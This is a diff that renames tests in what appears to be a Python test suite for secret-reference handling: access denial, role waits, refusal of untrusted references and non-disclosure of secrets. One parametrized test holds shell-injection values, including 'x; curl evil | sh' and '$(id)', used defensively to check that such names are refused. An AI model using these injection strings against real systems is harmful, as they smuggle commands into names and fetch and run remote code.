@@ -52,7 +52,7 @@ async def test_whether_the_account_may_read_it_is_asked_each_time() -> None:
         assert made.called("a") == made.called("b") == ["run"]
 
 
-async def test_an_account_that_may_not_read_it_is_told_so_and_the_secret_is_not_even_fetched() -> None:
+async def test_an_account_without_the_right_fails_and_the_secret_is_not_read() -> None:
     async with world() as made:
         prepared(made, "another")
         await begun(made, "a", kwargs={"name": "a", "x": REFERENCE}, spec={"python": "m:f", "retries": {"limit": 1}})
@@ -65,7 +65,7 @@ async def test_an_account_that_may_not_read_it_is_told_so_and_the_secret_is_not_
         assert made.given == []
 
 
-async def test_a_role_that_comes_a_moment_after_the_wait_is_waited_for() -> None:
+async def test_a_role_created_shortly_after_the_wait_is_waited_for() -> None:
     async with world() as made:
         made.secret("db", password=SECRET)
         await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
@@ -74,7 +74,7 @@ async def test_a_role_that_comes_a_moment_after_the_wait_is_waited_for() -> None
         assert made.called("a") == ["run"]
 
 
-async def test_who_is_denied_again_and_again_holds_up_nobody_else() -> None:
+async def test_a_repeatedly_denied_account_delays_no_other() -> None:
     async with world() as made:
         prepared(made, "reader")
         for number in range(100):
@@ -154,7 +154,7 @@ async def test_what_is_no_reference_is_refused(bad: Any) -> None:
         typed_json.encode({"__type": "dict", "__var": {"secretRef": {"name": "db", "key": "password"}}}),
     ],
 )
-async def test_a_reference_that_is_not_marked_as_an_authors_is_refused_and_nothing_is_read(data: Any) -> None:
+async def test_a_reference_from_data_is_refused_and_no_secret_is_read(data: Any) -> None:
     async with world() as made:
         prepared(made)
         await begun(made, "a", kwargs={"name": "a", "x": data})
@@ -186,7 +186,7 @@ async def test_a_name_that_no_secret_can_have_is_refused_before_anybody_is_asked
 
 
 @pytest.mark.parametrize(("account", "name"), [("x; curl evil | sh", "db"), ("torpor-task", "$(id)"), ("a\nb", "db")])
-def test_no_command_is_printed_with_a_name_that_a_shell_would_not_take_as_it_is(account: str, name: str) -> None:
+def test_no_command_is_printed_with_a_name_that_a_shell_would_interpret(account: str, name: str) -> None:
     assert reader.commands(reader.Reader(NAMESPACE, account), name) == ""
 
 
@@ -206,7 +206,7 @@ async def test_what_is_no_text_is_refused() -> None:
         ("refuses what it was given", "Failed", "TriggerInvalid"),
     ],
 )
-async def test_a_secret_is_nowhere_to_be_seen_whatever_its_trigger_does(
+async def test_a_secret_is_never_shown_by_any_behaviour_of_its_trigger(
     does: str, state: str, reason: str | None
 ) -> None:
     async with world() as made:
